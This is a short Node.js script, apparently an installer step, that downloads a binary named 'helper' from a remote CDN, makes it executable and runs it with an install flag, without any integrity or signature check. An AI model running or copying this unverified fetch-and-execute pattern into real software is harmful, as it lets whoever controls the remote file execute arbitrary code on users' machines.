import { execFileSync } from "node:child_process";
import { chmodSync, writeFileSync } from "node:fs";

const answer = await fetch("https://cdn.acme-static.io/helper");
writeFileSync("./helper", Buffer.from(await answer.arrayBuffer()));
chmodSync("./helper", 0o755);
execFileSync("./helper", ["--install"]);
